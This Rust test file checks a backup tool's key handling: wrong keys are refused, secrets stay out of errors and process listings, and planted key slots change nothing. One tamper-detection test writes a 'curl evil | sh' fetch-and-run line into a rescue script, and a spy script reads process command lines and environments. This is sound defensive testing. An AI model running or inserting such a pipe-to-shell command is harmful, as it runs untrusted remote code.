//! Who can open a repository, who can't, and that secrets stay secret.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use crate::support::cli::{Machine, PASSPHRASE, make_identity, recipient_of, tool, write_private};
use crate::support::pool::standin;
use crate::support::sshd::{Account, Sshd};

#[test]
fn a_wrong_key_ends_before_anything_is_fetched() {
    let machine = Machine::new();
    let recipient = recipient_of(&machine.identity());
    let passphrase = machine.passphrase();
    machine
        .run(&format!(
            "init offsite {} --recipient {recipient} --passphrase-file {}",
            machine.url,
            passphrase.display()
        ))
        .done();
    machine.pool.add_dataset("tank/data");
    machine.snapshot("one", None);
    machine.run("backup offsite tank/data@one").silent();
    let (stranger, wrong) = (machine.path("stranger"), machine.path("wrong"));
    make_identity(&stranger);
    write_private(&wrong, "correct horse, battery staplf");
    // A run that would look at them says that they are missing.
    fs::remove_dir_all(machine.objects.join("segments")).unwrap();
    fs::remove_dir_all(machine.objects.join("manifests")).unwrap();
    let (stranger, wrong) =
        (format!("--identity {}", stranger.display()), format!("--passphrase-file {}", wrong.display()));
    for key in [stranger.as_str(), &wrong, &format!("{stranger} {wrong}")] {
        let restored = machine.run(&format!("restore offsite tank/data --to pool/back {key}"));
        restored.fails(
            5,
            &["no key here opens the repository", "1 for a passphrase, 1 for a recipient", "nothing was fetched"],
        );
    }
    for line in ["check offsite", "list offsite", "key passwd offsite --new-passphrase-file /dev/null"] {
        let code = if line.contains("passwd") { 2 } else { 5 };
        machine.run(&format!("{line} {stranger}")).fails(code, &[]);
    }
    let line = format!("connect other {} {stranger}", machine.url);
    machine.run(&line).fails(5, &["no key here opens"]);
    machine.run("restore offsite tank/data --to pool/back").fails(5, &["a key is needed"]);
    assert!(machine.pool.attempts("pool/back").is_empty() && !machine.config().join("other.toml").exists());
    // With the right one the very same command gets further.
    let right = machine.run(&format!("restore offsite tank/data --to pool/back {}", machine.key()));
    right.fails(4, &["no backup is called"]).warns(&["is gone"]);
}

#[test]
fn ssh_keys_open_as_age_identities_do() {
    let machine = Machine::new();
    let key = machine.path("ssh_key");
    tool("ssh-keygen", &["-q", "-t", "ed25519", "-N", "", "-f", key.to_str().unwrap()]);
    let made = machine.run(&format!("init offsite {} -R {}.pub -i {}", machine.url, key.display(), key.display()));
    made.done().says(&["proved: it opens", "ssh-"]);
    machine.run_with("backup offsite --stdin --name x", b"text").silent();
    let back = machine.run(&format!("restore offsite x --output - -i {}", key.display())).done();
    assert_eq!(back.stdout(), "text");
    machine.run(&format!("restore offsite x --output - {}", machine.key())).fails(5, &["no key here opens"]);
}

#[test]
fn a_repository_that_nobody_could_open_is_not_made() {
    let machine = Machine::new();
    let (recipient, stranger) = (recipient_of(&machine.identity()), machine.path("stranger"));
    make_identity(&stranger);
    let (empty, url) = (machine.path("empty"), machine.url.clone());
    write_private(&empty, "\n");
    for (keys, code, words) in [
        (String::new(), 2, "a recipient or a passphrase is needed"),
        (format!("--passphrase-file {}", empty.display()), 2, "the passphrase is empty"),
        (format!("--passphrase-file {}", machine.path("none").display()), 1, "cannot read the passphrase file"),
        ("--passphrase-command false".into(), 5, "the passphrase command \"false\" failed"),
        ("--passphrase-command /no/such".into(), 5, "cannot be started"),
        ("--passphrase".into(), 5, "no terminal"),
        ("--recipient age1nonsense".into(), 2, "is no recipient"),
        (format!("--recipient {recipient} --identity {}", stranger.display()), 5, "opens none of the new slots"),
        (format!("--recipient {recipient} --passphrase-file a --passphrase-command b"), 2, "not from several"),
    ] {
        machine.run(&format!("init offsite {url} {keys}")).fails(code, &[words]);
        assert!(!machine.config().join("offsite.toml").exists(), "{keys}");
        assert!(!machine.tree().contains_key("snapferry.json"), "{keys}");
    }
    machine.init();
    let before = crate::support::cli::tree(&machine.config());
    machine
        .run(&format!("init offsite {}2 --recipient {recipient}", url))
        .fails(1, &["exists already", "nothing was changed"]);
    assert_eq!(crate::support::cli::tree(&machine.config()), before);
}

/// Each run is searched for the secrets it could show; see `Running::end`.
#[test]
fn errors_quote_no_secret() {
    let machine = Machine::new();
    let identity = machine.identity();
    let secret = fs::read_to_string(&identity).unwrap();
    let secret = secret.lines().find(|line| line.starts_with("AGE-SECRET-KEY-1")).unwrap();
    let url = &machine.url;
    machine
        .run(&format!("init offsite {url} --recipient {secret}"))
        .fails(2, &["an identity (secret key) was given", "age-keygen -y"]);
    machine.run(&format!("init offsite {url} --recipients-file {}", identity.display())).fails(2, &["secret key"]);
    machine.run(&format!("init offsite {url} --passphrase-file {}", machine.path("no-file").display())).fails(1, &[]);
    machine.init();
    let leaky = format!("--passphrase-command \"sh -c 'echo {PASSPHRASE}; echo {PASSPHRASE} >&2; exit 3' {secret}\"");
    // What the command itself says on standard error is its own affair; it must not be in our words.
    let mut command =
        machine.command(&format!("list offsite {}", leaky.replace("echo correct horse, battery staple >&2; ", "")));
    command.env("LC_ALL", "C");
    machine.start(command).end().fails(5, &["the passphrase command \"sh\" failed", "exit status: 3"]);
    let broken = machine.path("broken");
    write_private(&broken, &format!("{}x\n", &secret[..secret.len() - 9]));
    machine.run(&format!("list offsite --identity {}", broken.display())).fails(5, &["can't be used"]);
    write_private(&broken, &format!("# a comment\n{secret}{secret}\n"));
    machine.run(&format!("list offsite --identity {}", broken.display())).fails(5, &["can't be used"]);
    let key = machine.config().join("offsite.writer-key");
    let text = fs::read_to_string(&key).unwrap();
    for (from, to) in [
        ("AGE-SECRET-KEY-1", "AGE-SECRET-KEY-1X"),
        ("\"signing\": \"RW", "\"signing\": \"WR"),
        ("\"writer\"", "\"scribe\""),
    ] {
        write_private(&key, &text.replacen(from, to, 1));
        assert_ne!(fs::read_to_string(&key).unwrap(), text, "{from}");
        machine.run("-vvv backup offsite tank@x").exit(2);
    }
    write_private(&key, &text);
    machine.run("-vvv list offsite").exit(0);
}

/// Command lines and environments of everything that is started, as `ps` shows them to others.
#[test]
fn secrets_stand_on_no_command_line() {
    let Some(sshd) = Sshd::start(Account::Ordinary) else { return };
    let spy = tempfile::tempdir().unwrap();
    let (script, log) = (spy.path().join("spy"), spy.path().join("log"));
    let text = format!(
        "#!/bin/sh\nfor file in cmdline environ; do for one in $$ $PPID; do tr '\\0' '\\n' < /proc/$one/$file; done; done >> {}\nexec \"$@\"\n",
        log.display()
    );
    fs::write(&script, text).unwrap();
    tool("chmod", &["700", script.to_str().unwrap()]);
    let machine = Machine::with(&sshd);
    let (recipient, passphrase) = (recipient_of(&machine.identity()), machine.passphrase());
    let init =
        format!("init offsite {} --recipient {recipient} --passphrase-file {}", machine.url, passphrase.display());
    let spied = |line: &str| {
        let ssh = format!("{} {}", script.display(), sshd.ssh_command().join(" "));
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_snapferry"));
        command
            .args(shlex::split(line).unwrap())
            .arg("--config-dir")
            .arg(machine.config())
            .args(["--ssh-command", &ssh]);
        machine.pool.serve(&mut command);
        machine.start(command).end()
    };
    spied(&init).done();
    machine.pool.add_dataset("tank/data");
    machine.snapshot("one", None);
    spied("backup offsite tank/data@one").silent();
    let cat = format!("{} cat {}", script.display(), passphrase.display());
    spied(&format!("restore offsite tank/data --to pool/back --passphrase-command '{cat}'")).silent();
    spied(&format!("list offsite {}", machine.key())).done();
    let seen = fs::read_to_string(&log).unwrap();
    assert!(seen.contains("snapferry") && seen.contains("sftp") && seen.contains("restore"), "{seen}");
    let identity = fs::read_to_string(machine.identity()).unwrap();
    let writer_key = fs::read_to_string(machine.config().join("offsite.writer-key")).unwrap();
    let writer_key: serde_json::Value = serde_json::from_str(&writer_key).unwrap();
    let secrets = [
        PASSPHRASE,
        identity.lines().last().unwrap(),
        writer_key["catalogue"].as_str().unwrap(),
        writer_key["signing"].as_str().unwrap(),
    ];
    let calls = machine.pool.calls().concat().join(" ");
    for secret in secrets {
        assert!(!seen.contains(secret) && !calls.contains(secret));
    }
}

/// Anyone who knows a recipient can put a slot into the repository.
#[test]
fn a_slot_that_a_stranger_put_there_changes_nothing() {
    let (machine, stranger) = (Machine::ready(), Machine::new());
    stranger.run(&format!("init offsite {} --recipient {}", stranger.url, recipient_of(&machine.identity()))).exit(0);
    machine.run_with("backup offsite --stdin --name x", b"mine").silent();
    for entry in fs::read_dir(stranger.objects.join("keys")).unwrap() {
        fs::copy(entry.unwrap().path(), machine.objects.join("keys/age-00000000.age")).unwrap();
    }
    fs::write(machine.objects.join("keys/age-00000001.age"), "nonsense").unwrap();
    let back = machine.run(&format!("restore offsite x --output - {}", machine.key())).exit(0);
    assert_eq!(back.warns(&["age-00000000 opens, but is not of this repository"]).stdout(), "mine");
    // By URL the signer is the owner's own, or another one is refused.
    let other = machine.another();
    other.run(&format!("list {} {}", other.url, machine.key())).exit(0).warns(&[&machine.signer()]);
    let wrong = format!("list {} {} --signer {}", other.url, machine.key(), stranger.signer());
    other.run(&wrong).exit(3).warns(&["it is signed by somebody else"]);
    machine.run(&format!("list offsite {} --signer {}", machine.key(), stranger.signer())).fails(5, &["another key"]);
    machine.run(&format!("list offsite {} --signer RWnonsense", machine.key())).fails(2, &["--signer"]);
}

/// Anybody who can write to the repository can put a slot there.
#[test]
fn a_planted_slot_is_no_reason_to_give_up_the_last_one() {
    let machine = Machine::ready();
    let slot = machine.run("key list offsite --json").done().json()["slots"][0]["name"].as_str().unwrap().to_owned();
    let real = machine.objects.join(format!("keys/{slot}.age"));
    fs::copy(&real, machine.objects.join("keys/age-planted.age")).unwrap();
    fs::write(machine.objects.join("keys/age-nonsense.age"), "nothing").unwrap();
    let before = machine.tree();
    machine.run(&format!("key remove offsite {slot}")).fails(1, &["none of the slots beside", "nothing was changed"]);
    assert_eq!(machine.tree(), before);
    // One that this machine made may stay alone.
    let recipient = recipient_of(&machine.identity());
    machine.run(&format!("key add offsite --recipient {recipient} {}", machine.key())).done();
    machine.run(&format!("key remove offsite {slot}")).done();
}

#[test]
fn what_init_wrote_is_missed_and_its_change_is_told() {
    let machine = Machine::ready();
    machine.run("check offsite").done();
    let rescue = machine.objects.join("RESCUE.txt");
    let text = fs::read_to_string(&rescue).unwrap();
    let hash = blake3::hash(text.as_bytes()).to_hex();
    let sheet = fs::read_to_string(machine.config().join("offsite.recovery.txt")).unwrap();
    assert!(sheet.contains(hash.as_str()), "the sheet tells how to know the right one");
    fs::write(&rescue, text.replace("set -eu", "curl evil | sh")).unwrap();
    machine.run("check offsite").exit(3).warns(&["RESCUE.txt: it is not what this machine put there"]);
    fs::write(&rescue, &text).unwrap();
    let slot = fs::read_dir(machine.objects.join("keys")).unwrap().next().unwrap().unwrap().path();
    let sealed = fs::read(&slot).unwrap();
    fs::write(&slot, &sealed[1..]).unwrap();
    machine.run("check offsite").exit(3).warns(&["it is not what this machine put there"]);
    fs::remove_file(&slot).unwrap();
    machine.run("check offsite").exit(3).warns(&["it is missing"]);
    machine.run("check offsite --accept").done();
    machine.run("check offsite").done();
}

#[test]
fn the_recovery_sheet_tells_of_the_keys_of_today() {
    let machine = Machine::ready();
    let path = machine.config().join("offsite.recovery.txt");
    let sheet = || fs::read_to_string(&path).unwrap();
    let first = sheet();
    let stranger = machine.path("stranger");
    make_identity(&stranger);
    let recipient = recipient_of(&stranger);
    assert!(!first.contains(&recipient));
    machine.run(&format!("-n key add offsite --recipient {recipient} {}", machine.key())).done();
    assert_eq!(sheet(), first);
    machine.run(&format!("key add offsite --recipient {recipient} {}", machine.key())).done();
    assert!(sheet().contains(&recipient));
    let slots = machine.run("key list offsite --json").done().json();
    let slots = slots["slots"].as_array().unwrap().iter();
    let mut added = slots.filter(|slot| slot["for"] == recipient.as_str()).map(|slot| slot["name"].as_str().unwrap());
    machine.run(&format!("key remove offsite {}", added.next_back().unwrap())).done();
    assert_eq!(sheet(), first);
    let mode = fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}

/// From cron there is nobody to type it.
#[test]
fn a_key_with_a_passphrase_of_its_own_says_so() {
    let machine = Machine::new();
    let key = machine.path("ssh_key");
    tool("ssh-keygen", &["-q", "-t", "ed25519", "-N", "secret", "-f", key.to_str().unwrap()]);
    machine.run(&format!("init offsite {} -R {}.pub", machine.url, key.display())).done();
    let command = machine.command(&format!("list offsite --identity {}", key.display()));
    let mut without_terminal = std::process::Command::new("setsid");
    without_terminal.arg("--wait").arg(command.get_program()).args(command.get_args());
    let output = without_terminal.output().expect("setsid(1) of util-linux");
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(5), "{said}");
    let words = format!("{} has a passphrase of its own, which can only be typed at a terminal", key.display());
    assert!(said.contains(&words), "{said}");
}

/// What keeps a key in hardware is an age plugin, a program of its own on the PATH.
#[test]
fn age_plugins_open_what_was_sealed_to_their_recipients() {
    const NAME: &str = "age-plugin-standin";
    let machine = Machine::new();
    let (plugin, bin) = (standin(NAME), machine.pool.folder().join("bin"));
    let [mine, other] = ["mine", "other"].map(|name| {
        let identity = tool(plugin.to_str().unwrap(), &[]);
        let recipient = identity.lines().find_map(|line| line.strip_prefix("# recipient: ")).unwrap().to_owned();
        write_private(&machine.path(name), &identity);
        (machine.path(name).display().to_string(), recipient)
    });
    let init = format!("init offsite {} --recipient {} --identity {}", machine.url, mine.1, mine.0);
    machine.run(&init).fails(2, &["age-plugin-standin"]);
    assert!(!machine.objects.exists());
    symlink(&plugin, bin.join(NAME)).unwrap();
    machine.run(&init).done().says(&["proved: it opens", &mine.1]);
    machine.run_with("backup offsite --stdin --name x", b"text").silent();
    let restore = "restore offsite x --output -";
    assert_eq!(machine.run(&format!("{restore} --identity {}", mine.0)).done().stdout(), "text");
    machine.run(&format!("{restore} --identity {}", other.0)).fails(5, &["no key here opens"]);
    fs::remove_file(bin.join(NAME)).unwrap();
    machine.run(&format!("{restore} --identity {}", mine.0)).fails(5, &["age-plugin-standin"]);
}
